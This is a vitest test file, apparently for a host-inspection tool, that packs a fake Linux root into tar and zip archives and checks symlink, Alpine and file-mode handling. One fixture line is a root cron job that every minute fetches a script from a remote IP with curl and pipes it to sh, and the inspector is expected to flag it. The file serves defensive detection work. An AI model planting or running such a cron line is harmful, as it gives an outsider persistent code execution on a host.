import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tarOf, type TarFiles } from '../../../../tests/support/tar.ts';
import { zipOf } from '../../../../tests/support/zip.ts';
import { inspectHost } from '../inspect-host.ts';
import { openBundle } from './open-bundle.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-archive-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe('files of a root in an archive', () => {
  const status = 'Package: tool\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n';
  const files = {
    'etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
    'var/lib/dpkg/status': status,
    'var/lib/dpkg/info/tool.list': '/.\n/lib\n/lib/systemd\n/lib/systemd/system\n/lib/systemd/system/tool.service\n',
    'usr/lib/systemd/system/tool.service': '[Service]\nExecStart=/usr/bin/tool\nRestart=always\n',
    'etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
  };

  it('are inspected, wherever its root stands in a tar', async () => {
    const path = join(folder, 'root.tar');
    const links: TarFiles = { './disk/lib': { type: '2', target: 'usr/lib' } };
    const members = Object.fromEntries(Object.entries(files).map(([name, text]) => [`./disk/${name}`, text]));
    writeFileSync(path, tarOf({ './': { type: '5' }, ...members, ...links }));
    const bundle = await openBundle(path);
    expect(bundle).toMatchObject({ form: 'archive', problems: [] });
    expect(inspectHost(bundle.tree).claims.map(({ path: at }) => at)).toEqual(['/etc/cron.d/job']);
    expect(bundle.notChecked).toHaveLength(1);
    bundle.close();
  });

  it('belong to the packages that name them under the other path, though a zip has no links', async () => {
    const path = join(folder, 'web1.zip');
    writeFileSync(path, zipOf(files));
    const bundle = await openBundle(path);
    expect(inspectHost(bundle.tree).claims.map(({ path: at }) => at)).toEqual(['/etc/cron.d/job']);
    expect(bundle.notChecked.map(({ what }) => what)).toContain('symbolic links');
    bundle.close();
  });

  it('keep folders apart whose files differ, and those of Alpine', async () => {
    const path = join(folder, 'old.zip');
    writeFileSync(path, zipOf({ 'etc/passwd': '', 'lib/a': 'one', 'usr/lib/a': 'another', 'bin/b': 'x' }));
    const bundle = await openBundle(path);
    expect([bundle.tree.lstat('/lib')?.type, bundle.tree.lstat('/bin')?.type]).toEqual(['directory', 'symlink']);
    bundle.close();
    writeFileSync(path, zipOf({ 'etc/passwd': '', 'lib/apk/db/installed': '', 'bin/b': 'x' }));
    const alpine = await openBundle(path);
    expect(alpine.tree.lstat('/bin')?.type).toBe('directory');
    alpine.close();
  });

  it('have the modes and links that a zip of Unix tells', async () => {
    const path = join(folder, 'unix.zip');
    const zip = zipOf({ 'etc/passwd': 'x', 'usr/bin/a': 'y', bin: 'usr/bin' });
    for (const [name, mode] of [
      ['usr/bin/a', 0o104_755],
      ['bin', 0o120_777],
    ] as const) {
      const at = zip.lastIndexOf(Buffer.from(name), zip.indexOf('PK\u0005\u0006')) - 46;
      zip[at + 5] = 3;
      zip.writeUInt32LE((mode << 16) >>> 0, at + 38);
    }
    writeFileSync(path, zip);
    const bundle = await openBundle(path);
    expect(bundle.tree.stat('/bin/a')).toMatchObject({ path: '/usr/bin/a', mode: 0o4755 });
    bundle.close();
  });
});
